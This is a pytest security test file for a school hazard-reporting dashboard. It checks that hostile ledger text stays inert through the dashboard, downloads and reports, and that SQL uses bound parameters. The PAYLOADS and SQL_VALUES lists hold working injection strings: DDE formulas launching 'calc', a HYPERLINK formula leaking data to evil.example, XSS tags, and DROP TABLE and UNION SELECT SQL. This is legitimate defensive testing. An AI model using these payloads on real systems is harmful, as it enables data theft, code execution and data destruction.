"""Hostile text in ledgers and the registry — formulas, HTML and script, Markdown links and
Streamlit directives, SQL fragments, Chinese, emoji and right-to-left text — goes through
ingest → dashboard → report.xlsx → report.html → CSV and Excel downloads and comes out as
inert text everywhere; filters and URL parameters reach SQL only as bound parameters."""

from __future__ import annotations

import copy
import csv
import datetime as dt
import html.parser
import io
import json
import re
from pathlib import Path

import openpyxl
import pytest
from markdown_it import MarkdownIt
from streamlit.testing.v1 import AppTest

from dashboard import downloads, widgets
from pipelines.export import export_snapshot
from pipelines.publish import ingest
from tests import builders
from xiaoan.inert import markdown as md
from xiaoan.warehouse import Reader, open_read_only
from tests.data_apptest import as_served  # noqa: F401 (autouse: the app as xiaoan serve runs it)

D = dt.date
AS_OF = D(2026, 3, 31)
APP = Path(__file__).resolve().parent.parent / "dashboard" / "app.py"
# What clerks — or whoever sent the file — typed (docs/reliability.md counts them).
PAYLOADS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"点我查看")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C notepad'!'A1'",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=1+1",
    "<script>alert('xss')</script>",
    '<img src=x onerror="alert(1)">',
    '"><svg onload=alert(1)>',
    "[点我](javascript:alert(1)) ![跟踪](http://evil.example/p.png) **粗体** :red[红字] :material/warning: $x^2$",
    "'; DROP TABLE hazards; --",
    "\" OR 1=1 --",
    "1; ATTACH 'http://evil.example/x.db' AS x",
    "校园安全隐患😀🔥 עברית مرحبا \u202eLTR\u202c 中文",
    "a;=1+1;b",
]
HOSTILE_SCHOOL = "<b>城关</b>[第一小学](http://evil.example)"
HOSTILE_TOWN = '=HYPERLINK("http://evil.example","河口镇")'
HOSTILE_DEPT = '<img src=x onerror=alert(1)>消防大队'
LINK_ID = "[H-link](http://evil.example)"
SQL_VALUES = ["' OR 1=1 --", "x'); DROP TABLE hazards; --", "%' OR '1'='1", "T01' UNION SELECT * FROM departments --"]


@pytest.fixture(scope="module")
def hostile_warehouse(tmp_path_factory) -> Path:
    root = tmp_path_factory.mktemp("hostile")
    registry = copy.deepcopy(builders.SMALL_REGISTRY)
    registry["学校"][0][1] = HOSTILE_SCHOOL
    registry["镇"][1][1] = HOSTILE_TOWN
    registry["成员单位"][2][1] = HOSTILE_DEPT
    warehouse = root / "wh" / "warehouse.duckdb"
    ingest([builders.registry_workbook(root / "登记册.xlsx", registry)], warehouse)
    rows = [builders.hazard(f"X{i:02d}", school=("S01", "S03")[i % 2], level="重大", found=D(2026, 1, 5), deadline=D(2026, 2, 1),
                            dept=("D01", "D03")[i % 2], description=p, measures=p, report=D(2026, 3, 31))
            for i, p in enumerate(PAYLOADS)]
    rows.append(builders.hazard(LINK_ID, school="S01", level="重大", found=D(2026, 1, 5), deadline=D(2026, 2, 1),
                                description=PAYLOADS[8], report=D(2026, 3, 31)))
    inspections = [["I1", D(2026, 3, 5), "D03", "S01", "日常检查", None, PAYLOADS[5], 0, 90]]
    meetings = [["M1", PAYLOADS[0], "例会", "镇", "T01", D(2026, 3, 18), PAYLOADS[6], "D01、D03", PAYLOADS[9], 1]]
    result = ingest([builders.xlsx(root / "隐患.xlsx", builders.HAZARD_HEADERS, rows),
                     builders.xlsx(root / "检查.xlsx", builders.INSPECTION_HEADERS, inspections),
                     builders.xlsx(root / "会议.xlsx", builders.MEETING_HEADERS, meetings)], warehouse)
    assert [f.rejected for f in result.files] == [0, 0, 0], result.files
    return warehouse


def stored(text: str) -> str:
    """What the warehouse keeps of a typed cell (surrounding spaces trimmed)."""
    return text.strip()


def test_hostile_text_is_stored_as_typed_and_the_warehouse_is_intact(hostile_warehouse):
    con = open_read_only(hostile_warehouse)
    try:
        described = dict(con.sql("select hazard_id, description from hazards").fetchall())
        assert [described[f"X{i:02d}"] for i in range(len(PAYLOADS))] == [stored(p) for p in PAYLOADS]
        assert con.sql("select count(*) from hazards").fetchall() == [(len(PAYLOADS) + 1,)]
        assert con.sql("select school_name from schools where school_code = 'S01'").fetchall() == [(HOSTILE_SCHOOL,)]
        assert con.sql("select title, chair, topics from meetings").fetchall() == [(PAYLOADS[0], PAYLOADS[6], PAYLOADS[9])]
    finally:
        con.close()


# ---------------------------------------------------------------- the dashboard


@pytest.fixture
def app_env(hostile_warehouse, monkeypatch):
    monkeypatch.setenv("XIAOAN_WAREHOUSE", str(hostile_warehouse))
    for name in ("XIAOAN_SCOPE", "XIAOAN_RULES", "XIAOAN_MAP"):
        monkeypatch.delenv(name, raising=False)
    captured: list = []

    def capture(shown, key, lang, file_stem):  # the files the two buttons would give, made now
        captured.append((key, to_csv_cells(downloads.to_csv(shown)), xlsx_cells(downloads.to_xlsx(shown, file_stem))))

    monkeypatch.setattr(widgets, "downloads", capture)
    return captured


def run_page(page: str, params: dict | None = None) -> AppTest:
    at = AppTest.from_file(str(APP), default_timeout=120)
    at.query_params["asof"] = AS_OF.isoformat()
    for key, value in (params or {}).items():
        at.query_params[key] = value
    at.switch_page(f"views/{page}.py")
    at.run()
    assert not at.exception, [e.value for e in at.exception]
    return at


def to_csv_cells(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))


def xlsx_cells(data: bytes) -> list:
    book = openpyxl.load_workbook(io.BytesIO(data))
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def assert_inert_markdown(source: str, typed: str) -> None:
    """Rendered as CommonMark, the source shows `typed` as text: no link, image, emphasis or
    tag; and Streamlit's own syntax (:directives:, $LaTeX$) is escaped in it."""
    rendered = MarkdownIt("commonmark").render(source)
    for tag in ("<a ", "<img", "<strong>", "<em>", "<script", "<svg", "<b>"):
        assert tag not in rendered, (tag, source)
    assert md(typed) in source, source


def test_the_dashboard_shows_hostile_text_as_typed_and_its_downloads_are_inert(app_env):
    at = run_page("hazards")
    at.toggle(key="hazards.in_period").set_value(False).run()
    ledger = at.dataframe[0].value
    assert set(ledger["隐患描述"]) >= {stored(p) for p in PAYLOADS}  # plain text cells, as typed

    at = run_page("hazard", {"id": LINK_ID})
    assert_inert_markdown(at.title[0].value, LINK_ID)
    sources = [m.value for m in at.markdown]
    assert any(md(stored(PAYLOADS[8])) in s for s in sources)
    for source in sources:
        rendered = MarkdownIt("commonmark").render(source)
        assert "<a " not in rendered and "<img" not in rendered, source
    assert any(md(HOSTILE_SCHOOL) in s for s in sources)

    at = run_page("school", {"school": "S01"})
    assert_inert_markdown(at.subheader[0].value, HOSTILE_SCHOOL)

    at = run_page("departments")
    specs = [json.loads(chart.proto.spec) for chart in at.get("plotly_chart")]
    labels = [v for spec in specs for trace in spec["data"] for key in ("x", "y", "text") for v in _flat(trace.get(key))]
    assert "&lt;img src=x onerror=alert(1)&gt;消防大队" in labels  # plotly shows entities as typed
    assert not any(isinstance(v, str) and "<img" in v for v in labels)

    for page in ("meetings", "inspections", "overview", "risk", "quality", "organisation"):
        run_page(page)
    csv_cells = [cell for _, rows, _ in app_env for row in rows[1:] for cell in row]
    assert csv_cells and all(not c.startswith(("=", "+", "-", "@", "\t", "\r")) for c in csv_cells)
    assert "'" + stored(PAYLOADS[0]) in csv_cells and "'" + PAYLOADS[0] in csv_cells  # a hazard's and a meeting's
    assert "a;=1+1;b" in csv_cells  # kept whole in its quotes
    excel = [cell for _, _, cells in app_env for cell in cells]
    assert excel and all(cell.data_type != "f" for cell in excel)
    assert stored(PAYLOADS[0]) in {cell.value for cell in excel}


def _flat(value):
    if isinstance(value, list):
        for v in value:
            yield from _flat(v)
    elif value is not None:
        yield value


# ---------------------------------------------------------------- the snapshot


class _Tags(html.parser.HTMLParser):
    def __init__(self):
        super().__init__()
        self.tags, self.attributes, self.scripts, self.text = [], [], [], []
        self._in_script = False

    def handle_starttag(self, tag, attrs):
        self.tags.append(tag)
        self.attributes += [name for name, _ in attrs]
        self._in_script = tag == "script"

    def handle_endtag(self, tag):
        self._in_script = False

    def handle_data(self, data):
        (self.scripts if self._in_script else self.text).append(data)


def test_report_xlsx_and_report_html_hold_hostile_text_as_inert_text(hostile_warehouse, tmp_path):
    result = export_snapshot(hostile_warehouse, AS_OF, None, None, tmp_path / "out", mask_personal=False)
    book = openpyxl.load_workbook(result.path / "report.xlsx")
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert all(cell.data_type != "f" for cell in cells), [c.coordinate for c in cells if c.data_type == "f"][:5]
    values = {cell.value for cell in cells}
    assert {stored(p) for p in PAYLOADS} <= values and HOSTILE_DEPT in values

    page = (result.path / "report.html").read_text(encoding="utf-8")
    parsed = _Tags()
    parsed.feed(page)
    assert set(parsed.tags) <= {"html", "head", "meta", "title", "style", "body", "h1", "h2", "p", "div", "table",
                                "thead", "tbody", "tr", "th", "td", "b", "script"}, set(parsed.tags)
    assert not [a for a in parsed.attributes if a.startswith("on")]
    charts = page.count('class="plotly-graph-div"')
    # plotly's configuration, plotly.js itself and one per chart, nothing else
    assert parsed.tags.count("script") == charts + 2
    assert all(code.lstrip().startswith(("window.PlotlyConfig", "/**\n* plotly.js", "window.PLOTLYENV"))
               for code in parsed.scripts if code.strip())
    shown = "".join(parsed.text)
    assert all(stored(p) in shown for p in PAYLOADS if p != PAYLOADS[12]) and HOSTILE_DEPT not in "".join(parsed.scripts)
    # In the charts' JSON the registry's names are entities, which plotly shows as typed.
    assert "\\u0026lt;img src=x onerror=alert(1)\\u0026gt;" in page or "&lt;img src=x onerror=alert(1)&gt;" in "".join(parsed.scripts)


# ---------------------------------------------------------------- SQL


class _Recording:
    """A cursor that writes down every statement it is given."""

    def __init__(self, cursor, log: list[str]):
        self._cursor, self._log = cursor, log

    def sql(self, query, *args, **kwargs):
        self._log.append(query)
        return self._cursor.sql(query, *args, **kwargs)

    def execute(self, query, *args, **kwargs):
        self._log.append(query)
        return self._cursor.execute(query, *args, **kwargs)

    def __getattr__(self, name):
        return getattr(self._cursor, name)


def test_hostile_filters_and_url_parameters_reach_sql_only_as_bound_parameters(app_env, hostile_warehouse, monkeypatch):
    statements: list[str] = []
    original = Reader.cursor
    monkeypatch.setattr(Reader, "cursor", lambda self: _Recording(original(self), statements))
    for value in SQL_VALUES:
        params = {name: value for name in ("town", "stype", "cat", "period", "year", "idx", "start", "end", "lang")}
        for page, extra in (("hazards", {}), ("hazard", {"id": value}), ("school", {"school": value}),
                            ("risk", {}), ("meetings", {}), ("quality", {})):
            at = run_page(page, params | extra)
            if page == "hazards":
                at.text_input(key="hazards.search").set_value(value).run()
                assert not at.exception
            if page == "quality":
                at.text_input(key="quality.search").set_value(value).run()
                assert not at.exception
    assert statements, "the pages ran their queries"
    fragments = ("OR 1=1", "DROP TABLE", "OR '1'='1", "UNION SELECT")
    leaked = [s for s in statements if any(f.lower() in s.lower() for f in fragments)]
    assert not leaked, leaked[:3]
    con = open_read_only(hostile_warehouse)
    try:
        assert con.sql("select count(*) from hazards").fetchall() == [(len(PAYLOADS) + 1,)]
    finally:
        con.close()


def test_no_query_is_built_by_formatting_a_value_into_sql():
    """The named queries and the metrics API put values in only as $parameters: every
    f-string that builds SQL in them interpolates fixed names of the module, never a value."""
    root = Path(__file__).resolve().parent.parent
    for path in (root / "dashboard" / "queries.py", root / "xiaoan" / "metrics.py"):
        source = path.read_text(encoding="utf-8")
        assert ".format(" not in source and " % (" not in source, path
        for fstring in re.findall(r'f"[^"]*\b(?:select|where|from)\b[^"]*"', source, flags=re.I):
            names = set(re.findall(r"\{([^}:!]+)", fstring))
            # fixed text of the module: macro and table names, where clauses and column lists
            # written in it, a query it built, a sort looked up in HAZARD_ORDERS by a checked key
            fixed = {"macro", "where", "quoted", "t", "columns", "query", "PRECOMPUTED_HEADLINE", "HAZARD_ORDERS[order]",
                     "FILTER_ARGS"}
            assert names <= fixed, (path.name, fstring)
